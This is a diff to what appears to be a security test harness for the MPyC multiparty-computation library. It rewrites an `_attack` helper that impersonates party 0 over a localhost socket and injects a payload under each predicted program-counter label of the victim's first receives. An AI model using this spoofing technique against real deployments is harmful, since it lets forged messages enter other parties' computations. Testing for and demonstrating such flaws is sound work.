@@ -94,9 +94,15 @@ def _one_error_line(err: str) -> str:
     return lines[0]
 
 
+# MPyC labels a message with its program counter: the k-th top-level MPyC coroutine after start
+# gets hash((k, 0)) (asyncoro._hop) on every party, so an attacker knows the labels of the
+# victim's first receives without seeing any traffic.
+FIRST_PCS = [hash((k, 0)) for k in range(1, 33)]
+
+
 def _attack(port: int, payload: bytes, deadline: float) -> None:
-    """Speak MPyC's handshake as party 0 of 2, then answer the victim's first message with
-    ``payload`` under the same program counter (what the victim will read as party 0's reply)."""
+    """Speak MPyC's handshake as party 0 of 2 and send ``payload`` under each of the labels the
+    victim's first receives from party 0 will have: whichever comes first is decoded."""
     while True:
         try:
             s = socket.create_connection(("127.0.0.1", port), timeout=5)
@@ -107,11 +113,8 @@ def _attack(port: int, payload: bytes, deadline: float) -> None:
             time.sleep(0.1)
     with s:
         s.sendall((0).to_bytes(2, "little") + os.urandom(16))  # party id 0 + a PRSS key
-        buf = b""
-        while len(buf) < 12:
-            buf += s.recv(4096)
-        pc, size = struct.unpack_from("<qI", buf)
-        s.sendall(struct.pack(f"<qI{len(payload)}s", pc, len(payload), payload))
+        for pc in FIRST_PCS:
+            s.sendall(struct.pack(f"<qI{len(payload)}s", pc, len(payload), payload))
         s.settimeout(30)
         try:
             while s.recv(4096):  # until the victim hangs up
